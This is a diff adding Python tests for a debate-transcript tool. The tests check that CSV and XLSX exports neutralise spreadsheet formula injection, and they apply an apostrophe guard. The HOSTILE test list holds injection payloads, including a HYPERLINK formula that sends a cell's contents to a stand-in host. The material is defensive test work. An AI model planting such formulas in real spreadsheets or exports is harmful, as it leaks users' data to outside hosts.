@@ -438,3 +438,56 @@ def test_a_bad_cell_is_named_by_row_and_column():
 def test_default_goals_exist_in_both_languages():
     assert set(DEFAULT_GOALS) == {"en", "ja"} and all(set(g) == {"A", "B"} for g in DEFAULT_GOALS.values())
 
+
+# -- hostile text: no export of ours turns text into a formula ------------------------------------
+
+HOSTILE = [  # texts a spreadsheet would run, or that look like the apostrophe guard itself
+    "=1+2", '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1", "-3 pears", "@SUM(A1)",
+    "\t=1", "\r=1", "'=1", "''@x", "'plain", "=", "- a list item\n- another",
+]
+
+
+def hostile() -> Debate:
+    """Every hostile text in a text cell of the transcript: answers, rebuttals, their reasonings."""
+    d = two_rounds()
+    steps = [s for r in d.rounds for s in (r.answer, r.rebuttal)]
+    for i, text in enumerate(HOSTILE):
+        step = steps[i % len(steps)]
+        if i < len(steps):
+            step.text = text
+        else:
+            step.reasoning_sent = text
+    d.rounds[0].question = HOSTILE[1]
+    d.goals["A"] = "=1+2 for AI"
+    return d
+
+
+@ROUND_TRIPS
+def test_hostile_text_round_trips_exactly(export, imp):
+    d = hostile()
+    back = imp(export(d))
+    assert tr.rows(back) == tr.rows(d)
+    assert back.rounds[0].question == HOSTILE[1] and back.rounds[0].answer.text == "=1+2"
+
+
+def test_no_xlsx_cell_of_ours_is_a_formula():
+    import io
+
+    import openpyxl
+
+    book = openpyxl.load_workbook(io.BytesIO(tr.to_xlsx(hostile())))
+    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert {c.value for c in cells} >= {"=1+2", HOSTILE[1]}  # the text itself, not a cached result
+
+
+@pytest.mark.parametrize("text, cell", [
+    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-3", "'-3"), ("@x", "'@x"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("'=1", "''=1"), ("'plain", "'plain"), ("plain", "plain"), ("", ""), (3, 3),
+])
+def test_a_csv_cell_that_would_start_a_formula_is_kept_as_text(text, cell):
+    from bonsai_ui.core.cells import csv_cell, from_csv_cell
+
+    assert csv_cell(text) == cell
+    if isinstance(text, str):
+        assert from_csv_cell(cell) == text
